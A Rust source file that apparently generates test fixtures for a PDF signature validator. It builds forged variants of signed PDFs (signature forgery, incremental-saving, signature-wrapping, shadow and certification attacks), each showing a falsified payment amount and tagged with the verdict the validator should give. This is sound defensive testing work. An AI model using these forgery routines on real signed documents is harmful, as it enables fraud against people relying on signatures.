//! The attack classes of pdf-insecurity.org, built from signed PDFs the way an attacker who
//! holds the signed file would (appending bytes, or overwriting the unsigned `/Contents`
//! hole). Every variant changes what the first page shows (its content stream, a font, an
//! overlay, the page tree) unless it says otherwise:
//! - [`usf_attacks`] (universal signature forgery): the last signature's dictionary redefined
//!   in a new revision with `/ByteRange` or `/Contents` missing, null, of the wrong type, with
//!   extra or negative numbers, overlapping, outside the file, not the hole's bytes, or with
//!   `/Filter`/`/SubFilter`/`/Type` changed;
//! - [`isa_attacks`] (incremental saving): a new revision with an xref table, an xref stream,
//!   a trailer but no xref, an xref but no trailer, a `/Prev` that skips the signed revisions
//!   or points at itself, and an object redefined in a revision whose xref does not list it;
//! - [`swa_attacks`] (signature wrapping): objects written into the `/Contents` hole and
//!   listed by a new xref, the second `/ByteRange` part re-pointed at a copy of the signed
//!   bytes, the whole signed file copied and `/ByteRange` pointed at the copy;
//! - [`shadow_attacks`] on a [`shadow_letter`] (prepared, then signed): *hide* (an overlay of
//!   the signed version emptied, dropped, or, as an annotation, removed), *replace* (a text
//!   field refilled: allowed form filling; the page's font redefined), *hide-and-replace* (the
//!   catalog's `/Pages` or the page's `/Contents` swapped for the hidden ones);
//! - [`certification_attacks`] on a certified PDF: the evil annotation attack (FreeText,
//!   Stamp, Redact annotations added: a modification under DocMDP P=1 and P=2, allowed under
//!   P=3) and the sneaky signature attack (a new signature field whose visible appearance
//!   overlays the page); on an approval-signed PDF both are modifications too.
//!
//! [`all_attacks`] builds every class that applies to a file (`kyso-fixtures --insecurity
//! SIGNED.pdf OUT_DIR`).

use kyso_pdf::{Dict, Document, IncrementalUpdate, ObjRef, Object, find_signatures};

use crate::attacks::{
    Attack, AttackClass, Expected, FORGED, another_font, appended, content_stream, field,
    first_page_content, first_page_font, form_xobject, normal_appearance, push_annotation, widget,
    with_extra_signature_field,
};

/// What the forged first page shows.
const FORGED_PAGE: &str = "BT /F1 24 Tf 72 700 Td (So tien: 9.000.000.000 VND) Tj ET";
const MODIFIED: Expected = Expected::Fails("modified_after_signing");
const BYTE_RANGE: Expected = Expected::Fails("byte_range_invalid");

fn open(signed: &[u8]) -> Result<Document<'_>, String> {
    Document::open(signed).map_err(|e| format!("cannot read the signed PDF: {e}"))
}

fn attack(name: &'static str, class: AttackClass, expected: Expected, bytes: Vec<u8>) -> Attack {
    Attack {
        name,
        class,
        expected,
        bytes,
    }
}

fn written(up: IncrementalUpdate<'_, '_>) -> Result<Vec<u8>, String> {
    up.write().map(|w| w.bytes).map_err(|e| e.to_string())
}

fn ints(v: &[i64]) -> Object {
    Object::Array(v.iter().map(|x| Object::Int(*x)).collect())
}

/// The first page and its dictionary.
fn first_page(doc: &Document<'_>) -> Result<(ObjRef, Dict), String> {
    let page = *doc
        .pages()
        .map_err(|e| e.to_string())?
        .first()
        .ok_or("the PDF has no page")?;
    let dict = doc
        .get(page)
        .map_err(|e| e.to_string())?
        .as_dict()
        .cloned()
        .ok_or("the page is not a dictionary")?;
    Ok((page, dict))
}

/// The last signature: its dictionary's reference, the dictionary, its `/ByteRange` as
/// offsets and its decoded `/Contents`; and how many signatures the file has.
struct LastSig {
    sig_ref: ObjRef,
    dict: Dict,
    range: [usize; 3],
    contents: Vec<u8>,
    count: usize,
}

fn last_signature(doc: &Document<'_>) -> Result<LastSig, String> {
    let sigs = find_signatures(doc).map_err(|e| format!("cannot list signatures: {e}"))?;
    let sig = sigs.last().ok_or("the PDF has no signature")?;
    let sig_ref = sig
        .sig_ref
        .ok_or("the signature value is not an indirect object")?;
    let dict = doc
        .get(sig_ref)
        .map_err(|e| e.to_string())?
        .as_dict()
        .cloned()
        .ok_or("the signature value is not a dictionary")?;
    let offset = |v: i64| usize::try_from(v).map_err(|_| "negative byte range".to_string());
    let [_, a, b, c] = sig.byte_range[..] else {
        return Err("the byte range does not have four numbers".into());
    };
    Ok(LastSig {
        sig_ref,
        dict,
        range: [offset(a)?, offset(b)?, offset(c)?],
        contents: sig.contents.clone(),
        count: sigs.len(),
    })
}

/// Universal signature forgery: the page rewritten and the last signature's dictionary
/// redefined, in one new revision.
pub fn usf_attacks(signed: &[u8]) -> Result<Vec<Attack>, String> {
    let doc = open(signed)?;
    let sig = last_signature(&doc)?;
    let content = first_page_content(&doc)?;
    let [a, b, c] = sig.range.map(|v| v as i64);
    let mut other_contents = sig.contents.clone();
    if let Some(x) = other_contents.get_mut(40) {
        *x ^= 0xff;
    }
    // With the dictionary's /ByteRange and /Contents gone, the signature is no longer listed:
    // the earlier one (or the document, if none) must fail.
    let gone = if sig.count > 1 {
        MODIFIED
    } else {
        Expected::Fails("no_signatures")
    };
    type Edit = (&'static str, Expected, Vec<(&'static [u8], Option<Object>)>);
    let edits: Vec<Edit> = vec![
        (
            "usf-byterange-missing",
            BYTE_RANGE,
            vec![(b"ByteRange", None)],
        ),
        (
            "usf-byterange-null",
            BYTE_RANGE,
            vec![(b"ByteRange", Some(Object::Null))],
        ),
        (
            "usf-byterange-not-an-array",
            BYTE_RANGE,
            vec![(
                b"ByteRange",
                Some(Object::string(format!("0 {a} {b} {c}").as_bytes())),
            )],
        ),
        (
            "usf-byterange-extra-numbers",
            BYTE_RANGE,
            vec![(b"ByteRange", Some(ints(&[0, a, b, c, 0, 0])))],
        ),
        (
            "usf-byterange-negative",
            BYTE_RANGE,
            vec![(b"ByteRange", Some(ints(&[0, a, b, -c])))],
        ),
        (
            "usf-byterange-overlapping",
            BYTE_RANGE,
            vec![(b"ByteRange", Some(ints(&[0, b + 10, b, c])))],
        ),
        (
            "usf-byterange-outside-the-file",
            BYTE_RANGE,
            vec![(b"ByteRange", Some(ints(&[0, a, b, c + 1_000_000])))],
        ),
        (
            "usf-contents-missing",
            BYTE_RANGE,
            vec![(b"Contents", None)],
        ),
        (
            "usf-contents-null",
            BYTE_RANGE,
            vec![(b"Contents", Some(Object::Null))],
        ),
        (
            "usf-contents-not-a-string",
            BYTE_RANGE,
            vec![(b"Contents", Some(Object::Int(0)))],
        ),
        (
            "usf-contents-not-the-hole",
            BYTE_RANGE,
            vec![(b"Contents", Some(Object::String(other_contents)))],
        ),
        (
            "usf-byterange-and-contents-missing",
            gone,
            vec![(b"ByteRange", None), (b"Contents", None)],
        ),
        (
            "usf-filter-unknown",
            MODIFIED,
            vec![(b"Filter", Some(Object::name("Forged.PPKLite")))],
        ),
        (
            "usf-subfilter-unknown",
            MODIFIED,
            vec![(b"SubFilter", Some(Object::name("forged.detached")))],
        ),
        (
            "usf-subfilter-x509-rsa-sha1",
            MODIFIED,
            vec![(b"SubFilter", Some(Object::name("adbe.x509.rsa_sha1")))],
        ),
        (
            "usf-type-document-timestamp",
            MODIFIED,
            vec![
                (b"Type", Some(Object::name("DocTimeStamp"))),
                (b"SubFilter", Some(Object::name("ETSI.RFC3161"))),
            ],
        ),
    ];
    edits
        .into_iter()
        .map(|(name, expected, changes)| {
            let mut dict = sig.dict.clone();
            for (key, value) in changes {
                match value {
                    Some(v) => dict.set(key, v),
                    None => {
                        dict.remove(key);
                    }
                }
            }
            let mut up = IncrementalUpdate::new(&doc);
            up.set(content, content_stream(FORGED_PAGE));
            up.set(sig.sig_ref, Object::Dict(dict));
            Ok(attack(name, AttackClass::Usf, expected, written(up)?))
        })
        .collect()
}

/// How a hand-written revision ends.
#[derive(Clone, Copy)]
enum Tail {
    /// An xref table and a trailer.
    Table,
    /// An xref stream.
    Stream,
    /// A trailer, no xref; `startxref` names the previous section.
    TrailerOnly,
    /// An xref table, no trailer.
    TableOnly,
}

/// A revision written by hand after `data` (whose document is `doc`): `objects` (each listed
/// in its xref or not), then `tail` listing them and the objects `elsewhere` (already in
/// `data`, at these offsets), with `/Prev` set to `prev` (`None`: the new section itself).
fn raw_revision(
    doc: &Document<'_>,
    data: &[u8],
    objects: &[(ObjRef, String, bool)],
    elsewhere: &[(ObjRef, usize)],
    tail: Tail,
    prev: Option<usize>,
) -> Result<Vec<u8>, String> {
    let root = doc.trailer().reference(b"Root").ok_or("no /Root")?;
    let size = objects
        .iter()
        .map(|(r, ..)| r.num + 1)
        .fold(doc.size(), u32::max);
    let mut out = appended(data, b"");
    let mut entries: Vec<(u32, u16, usize)> = elsewhere
        .iter()
        .map(|(r, at)| (r.num, r.generation, *at))
        .collect();
    for (r, body, listed) in objects {
        if *listed {
            entries.push((r.num, r.generation, out.len()));
        }
        out.extend_from_slice(
            format!("{} {} obj\n{body}\nendobj\n", r.num, r.generation).as_bytes(),
        );
    }
    let at = out.len();
    let trailer = format!(
        "/Size {} /Root {} {} R /Prev {}",
        size + u32::from(matches!(tail, Tail::Stream)),
        root.num,
        root.generation,
        prev.unwrap_or(at)
    );
    let startxref = match tail {
        Tail::Table | Tail::TableOnly => {
            out.extend_from_slice(b"xref\n");
            for (num, generation, offset) in &entries {
                out.extend_from_slice(
                    format!("{num} 1\n{offset:010} {generation:05} n\r\n").as_bytes(),
                );
            }
            if matches!(tail, Tail::Table) {
                out.extend_from_slice(format!("trailer\n<< {trailer} >>\n").as_bytes());
            }
            at
        }
        Tail::TrailerOnly => {
            out.extend_from_slice(format!("trailer\n<< {trailer} >>\n").as_bytes());
            doc.startxref()
        }
        Tail::Stream => {
            entries.push((size, 0, at));
            let mut rows = Vec::new();
            for (_, generation, offset) in &entries {
                let offset = u32::try_from(*offset).map_err(|_| "file too large")?;
                rows.push(1u8);
                rows.extend_from_slice(&offset.to_be_bytes());
                rows.extend_from_slice(&generation.to_be_bytes());
            }
            let index: Vec<String> = entries.iter().map(|(n, ..)| format!("{n} 1")).collect();
            out.extend_from_slice(
                format!(
                    "{size} 0 obj\n<< /Type /XRef {trailer} /W [1 4 2] /Index [{}] /Length {} >>\nstream\n",
                    index.join(" "),
                    rows.len()
                )
                .as_bytes(),
            );
            out.extend_from_slice(&rows);
            out.extend_from_slice(b"\nendstream\nendobj\n");
            at
        }
    };
    out.extend_from_slice(format!("startxref\n{startxref}\n%%EOF\n").as_bytes());
    Ok(out)
}

/// The forged page content as the body of an indirect object.
fn forged_body() -> String {
    format!(
        "<< /Length {} >>\nstream\n{FORGED_PAGE}\nendstream",
        FORGED_PAGE.len()
    )
}

/// Incremental saving: the page's content stream redefined after the last revision.
pub fn isa_attacks(signed: &[u8]) -> Result<Vec<Attack>, String> {
    let doc = open(signed)?;
    let content = first_page_content(&doc)?;
    let prev = Some(doc.startxref());
    let oldest = doc.sections().iter().map(|s| s.offset).min();
    let page = [(content, forged_body(), true)];
    let mut up = IncrementalUpdate::new(&doc);
    up.set(content, content_stream(FORGED_PAGE));
    let mut out = vec![attack(
        "isa-new-revision",
        AttackClass::Isa,
        MODIFIED,
        written(up)?,
    )];
    let unlisted = [
        (content, forged_body(), false),
        (ObjRef::new(doc.size(), 0), "<< >>".into(), true),
    ];
    // A /Prev chain that skips the signed revisions hides their signatures from a reader:
    // the document shows no signature.
    let hidden = Expected::Fails("no_signatures");
    for (name, objects, tail, prev, expected) in [
        ("isa-xref-stream", &page[..], Tail::Stream, prev, MODIFIED),
        (
            "isa-trailer-without-xref",
            &page[..],
            Tail::TrailerOnly,
            prev,
            MODIFIED,
        ),
        (
            "isa-xref-without-trailer",
            &page[..],
            Tail::TableOnly,
            prev,
            MODIFIED,
        ),
        (
            "isa-prev-skips-signed-revisions",
            &page[..],
            Tail::Table,
            oldest,
            hidden,
        ),
        (
            "isa-prev-points-at-itself",
            &page[..],
            Tail::Table,
            None,
            MODIFIED,
        ),
        (
            "isa-object-redefined-without-xref",
            &unlisted[..],
            Tail::Table,
            prev,
            MODIFIED,
        ),
    ] {
        let bytes = raw_revision(&doc, signed, objects, &[], tail, prev)?;
        out.push(attack(name, AttackClass::Isa, expected, bytes));
    }
    Ok(out)
}

/// Signature wrapping: the signed bytes kept where the last signature's digest finds them,
/// new content placed around them.
pub fn swa_attacks(signed: &[u8]) -> Result<Vec<Attack>, String> {
    let doc = open(signed)?;
    let sig = last_signature(&doc)?;
    let content = first_page_content(&doc)?;
    let [a, b, c] = sig.range;
    let mut out = Vec::new();

    // The forged page inside the /Contents hole: after the CMS's hex digits the string is
    // closed, the object hidden in a literal string of a new key, the rest of the padding the
    // hex string of another (the signature dictionary still parses); a new xref section lists
    // the object there.
    let used = sig.contents.len() - sig.contents.iter().rev().take_while(|x| **x == 0).count();
    let start = a + 1 + 2 * used + 2;
    let mut hole = signed.to_vec();
    let object = format!(
        "> /X (\n{} {} obj\n{}\nendobj\n) /Y <",
        content.num,
        content.generation,
        forged_body()
    );
    hole.get_mut(start..start + object.len())
        .filter(|_| start + object.len() < b)
        .ok_or("no room in the /Contents hole")?
        .copy_from_slice(object.as_bytes());
    let hidden = Document::open(&hole).map_err(|e| format!("the wrapped file: {e}"))?;
    let at = start + "> /X (\n".len();
    let bytes = raw_revision(
        &hidden,
        &hole,
        &[],
        &[(content, at)],
        Tail::Table,
        Some(doc.startxref()),
    )?;
    out.push(attack(
        "swa-objects-in-contents-hole",
        AttackClass::Swa,
        BYTE_RANGE,
        bytes,
    ));

    // A copy of the second signed part (or of the whole signed file) appended, /ByteRange
    // redefined to point at it, the page rewritten.
    let part2 = signed
        .get(b..b + c)
        .ok_or("the byte range does not fit the file")?;
    for (name, copy, shift) in [
        ("swa-second-part-repointed", part2, b),
        ("swa-byterange-points-at-a-copy", signed, 0),
    ] {
        let with_copy = appended(signed, copy);
        let at = with_copy.len() - copy.len();
        let moved = open(&with_copy)?;
        let range = if shift == 0 {
            ints(&[at as i64, a as i64, (at + b) as i64, c as i64])
        } else {
            ints(&[0, a as i64, at as i64, c as i64])
        };
        let mut dict = sig.dict.clone();
        dict.set(b"ByteRange", range);
        let mut up = IncrementalUpdate::new(&moved);
        up.set(content, content_stream(FORGED_PAGE));
        up.set(sig.sig_ref, Object::Dict(dict));
        out.push(attack(name, AttackClass::Swa, BYTE_RANGE, written(up)?));
    }
    Ok(out)
}

/// Text the shadow letter hides under an overlay.
const HIDDEN: &str = "BT /F1 18 Tf 72 600 Td (So tien: 9.000.000.000 VND) Tj ET";

/// A letter prepared for shadow attacks, built from an unsigned PDF as one incremental
/// update (sign it, then build the variants with [`shadow_attacks`]). Page 1 gains:
/// - a content stream drawing forged text at y=600, then one drawing a white box over it
///   (the *overlay*), and a white `Square` annotation over the same place;
/// - a text field `Amount` (no border, its own appearance) showing the amount;
/// - unreferenced: a content stream with the forged page, and a second page tree whose
///   only page draws it.
pub fn shadow_letter(plain: &[u8]) -> Result<Vec<u8>, String> {
    let err = |e: kyso_pdf::Error| e.to_string();
    let doc = Document::open(plain).map_err(|e| format!("cannot read the PDF: {e}"))?;
    let (root, mut catalog) = doc.catalog().map_err(err)?;
    let (page, mut page_dict) = first_page(&doc)?;
    let font = first_page_font(&doc)?;
    let mut up = IncrementalUpdate::new(&doc);
    let hidden = up.add(content_stream(HIDDEN));
    let overlay = up.add(content_stream("q 1 g 60 590 480 30 re f Q"));
    let mut contents = match page_dict.get(b"Contents") {
        Some(Object::Array(a)) => a.clone(),
        Some(other) => vec![other.clone()],
        None => Vec::new(),
    };
    contents.extend([Object::Ref(hidden), Object::Ref(overlay)]);

    // The forged page, unreferenced, and a page tree showing it.
    let shadow_content = up.add(content_stream(FORGED_PAGE));
    let shadow_pages = up.reserve();
    let mut shadow_page = page_dict.clone();
    shadow_page.set(b"Contents", Object::Ref(shadow_content));
    shadow_page.set(b"Parent", Object::Ref(shadow_pages));
    let shadow_page = up.add(Object::Dict(shadow_page));
    let mut pages = Dict::new();
    pages.set(b"Type", Object::name("Pages"));
    pages.set(b"Kids", Object::Array(vec![Object::Ref(shadow_page)]));
    pages.set(b"Count", Object::Int(1));
    up.set(shadow_pages, Object::Dict(pages));

    page_dict.set(b"Contents", Object::Array(contents));
    let mut square = Dict::new();
    square.set(b"Type", Object::name("Annot"));
    square.set(b"Subtype", Object::name("Square"));
    square.set(b"Rect", ints(&[60, 590, 540, 620]));
    square.set(b"F", Object::Int(4));
    square.set(b"C", ints(&[1, 1, 1]));
    square.set(b"IC", ints(&[1, 1, 1]));
    let ap = up.add(form_xobject(font, "So tien: 1.000.000 VND"));
    let mut amount = widget("Amount", "Tx", [72, 500, 372, 530], page, Some(ap));
    amount.set(b"V", Object::text("So tien: 1.000.000 VND"));
    amount.set(b"DA", Object::string(b"/F1 14 Tf 0 g"));
    let amount = up.add(Object::Dict(amount));
    let square = up.add(Object::Dict(square));
    page_dict.set(
        b"Annots",
        Object::Array(vec![Object::Ref(square), Object::Ref(amount)]),
    );
    up.set(page, Object::Dict(page_dict));
    let mut form = Dict::new();
    form.set(b"Fields", Object::Array(vec![Object::Ref(amount)]));
    form.set(b"DA", Object::string(b"/F1 12 Tf 0 g"));
    catalog.set(b"AcroForm", Object::Dict(form));
    up.set(root, Object::Dict(catalog));
    written(up)
}

/// The hidden page tree of a [`shadow_letter`]: a `/Pages` node that is not the catalog's.
fn shadow_pages(doc: &Document<'_>) -> Result<Option<ObjRef>, String> {
    let (_, catalog) = doc.catalog().map_err(|e| e.to_string())?;
    let pages = catalog.reference(b"Pages");
    Ok((1..doc.size()).map(|n| ObjRef::new(n, 0)).find(|r| {
        Some(*r) != pages
            && doc
                .get(*r)
                .ok()
                .and_then(|o| {
                    o.as_dict()
                        .and_then(|d| d.name(b"Type"))
                        .map(<[u8]>::to_vec)
                })
                .as_deref()
                == Some(b"Pages")
    }))
}

/// Shadow attacks on a signed [`shadow_letter`].
pub fn shadow_attacks(signed: &[u8]) -> Result<Vec<Attack>, String> {
    let err = |e: kyso_pdf::Error| e.to_string();
    let doc = open(signed)?;
    let (root, catalog) = doc.catalog().map_err(err)?;
    let (page, page_dict) = first_page(&doc)?;
    let font = first_page_font(&doc)?;
    let contents = page_dict
        .get(b"Contents")
        .and_then(Object::as_array)
        .map(<[Object]>::to_vec)
        .ok_or("the page's /Contents is not an array: not a shadow letter")?;
    let overlay = contents
        .last()
        .and_then(Object::as_ref)
        .ok_or("no overlay")?;
    let hidden_tree = shadow_pages(&doc)?.ok_or("no hidden page tree: not a shadow letter")?;
    let hidden_page = doc
        .get(hidden_tree)
        .map_err(err)?
        .as_dict()
        .and_then(|d| d.get(b"Kids"))
        .and_then(Object::as_array)
        .and_then(|k| k.first())
        .and_then(Object::as_ref)
        .ok_or("the hidden page tree has no page")?;
    let hidden_content = doc
        .get(hidden_page)
        .map_err(err)?
        .as_dict()
        .and_then(|d| d.get(b"Contents"))
        .cloned()
        .ok_or("the hidden page has no content")?;
    let mut out = Vec::new();
    let mut variant = |name, class, expected, up: IncrementalUpdate<'_, '_>| {
        out.push(attack(name, class, expected, written(up)?));
        Ok::<(), String>(())
    };

    // hide
    let mut up = IncrementalUpdate::new(&doc);
    up.set(overlay, content_stream(""));
    variant(
        "shadow-hide-overlay-emptied",
        AttackClass::ShadowHide,
        MODIFIED,
        up,
    )?;
    let mut dropped = page_dict.clone();
    dropped.set(
        b"Contents",
        Object::Array(contents[..contents.len() - 1].to_vec()),
    );
    let mut up = IncrementalUpdate::new(&doc);
    up.set(page, Object::Dict(dropped));
    variant(
        "shadow-hide-overlay-dropped",
        AttackClass::ShadowHide,
        MODIFIED,
        up,
    )?;
    let mut unannotated = page_dict.clone();
    let annots: Vec<Object> = page_dict
        .get(b"Annots")
        .and_then(Object::as_array)
        .unwrap_or(&[])
        .iter()
        .filter(|a| {
            a.as_ref()
                .and_then(|r| doc.get(r).ok())
                .is_none_or(|o| o.as_dict().and_then(|d| d.name(b"Subtype")) != Some(b"Square"))
        })
        .cloned()
        .collect();
    unannotated.set(b"Annots", Object::Array(annots));
    let mut up = IncrementalUpdate::new(&doc);
    up.set(page, Object::Dict(unannotated));
    variant(
        "shadow-hide-overlay-annotation-removed",
        AttackClass::ShadowHide,
        MODIFIED,
        up,
    )?;

    // replace: the text field refilled (form filling, allowed under P=2), the page's font
    // redefined.
    let (amount, mut amount_dict) = field(&doc, "Amount")?;
    let own = normal_appearance(&amount_dict)?;
    let mut up = IncrementalUpdate::new(&doc);
    up.set(own, form_xobject(font, FORGED));
    amount_dict.set(b"V", Object::text(FORGED));
    up.set(amount, Object::Dict(amount_dict));
    variant(
        "shadow-replace-field-value",
        AttackClass::ShadowReplace,
        Expected::Allowed,
        up,
    )?;
    let mut up = IncrementalUpdate::new(&doc);
    up.set(font, another_font(&doc, font)?);
    variant(
        "shadow-replace-font",
        AttackClass::ShadowReplace,
        MODIFIED,
        up,
    )?;

    // hide-and-replace
    let mut swapped = catalog.clone();
    swapped.set(b"Pages", Object::Ref(hidden_tree));
    let mut up = IncrementalUpdate::new(&doc);
    up.set(root, Object::Dict(swapped));
    variant(
        "shadow-hide-replace-page-tree",
        AttackClass::ShadowHideReplace,
        MODIFIED,
        up,
    )?;
    let mut swapped = page_dict.clone();
    swapped.set(b"Contents", hidden_content);
    let mut up = IncrementalUpdate::new(&doc);
    up.set(page, Object::Dict(swapped));
    variant(
        "shadow-hide-replace-page-content",
        AttackClass::ShadowHideReplace,
        MODIFIED,
        up,
    )?;
    Ok(out)
}

/// Attacks on a certified PDF: annotations (FreeText, Stamp, Redact) added over the page —
/// a modification under DocMDP P=1 and P=2, allowed under P=3 — and a sneaky signature: a
/// new, unsigned signature field whose visible appearance shows the forged amount over the
/// page. On a PDF with approval signatures only, the same changes are judged as kyso judges
/// approvals (form filling and signing): both are modifications.
pub fn certification_attacks(signed: &[u8]) -> Result<Vec<Attack>, String> {
    let doc = open(signed)?;
    let sigs = find_signatures(&doc).map_err(|e| format!("cannot list signatures: {e}"))?;
    let p = sigs.iter().find_map(|s| s.docmdp);
    let (page, _) = first_page(&doc)?;
    let font = first_page_font(&doc)?;
    let annotations = if p >= Some(3) {
        Expected::Allowed
    } else {
        MODIFIED
    };
    let mut out = Vec::new();
    for (name, subtype) in [
        ("eaa-freetext-added", "FreeText"),
        ("eaa-stamp-added", "Stamp"),
        ("eaa-redact-added", "Redact"),
    ] {
        let mut up = IncrementalUpdate::new(&doc);
        let mut annot = Dict::new();
        annot.set(b"Type", Object::name("Annot"));
        annot.set(b"Subtype", Object::name(subtype));
        annot.set(b"Rect", ints(&[72, 690, 400, 730]));
        annot.set(b"Contents", Object::text(FORGED));
        annot.set(b"P", Object::Ref(page));
        annot.set(b"F", Object::Int(4));
        annot.set(b"DA", Object::string(b"/Helv 14 Tf 0 g"));
        annot.set(b"OverlayText", Object::text(FORGED));
        let mut ap = Dict::new();
        ap.set(b"N", Object::Ref(up.add(form_xobject(font, FORGED))));
        annot.set(b"AP", Object::Dict(ap));
        let annot = up.add(Object::Dict(annot));
        push_annotation(&doc, &mut up, page, annot)?;
        out.push(attack(
            name,
            AttackClass::Certification,
            annotations,
            written(up)?,
        ));
    }
    out.push(attack(
        "ssa-visible-signature-field-added",
        AttackClass::SneakySignature,
        MODIFIED,
        with_extra_signature_field(&doc, None, Some(form_xobject(font, FORGED)))?,
    ));
    Ok(out)
}

/// Every class that applies to `signed`: USF, ISA, SWA, EAA and SSA always; shadow attacks
/// on a signed [`shadow_letter`].
pub fn all_attacks(signed: &[u8]) -> Result<Vec<Attack>, String> {
    let mut out = usf_attacks(signed)?;
    out.extend(isa_attacks(signed)?);
    out.extend(swa_attacks(signed)?);
    out.extend(certification_attacks(signed)?);
    if shadow_pages(&open(signed)?)?.is_some() {
        out.extend(shadow_attacks(signed)?);
    }
    Ok(out)
}
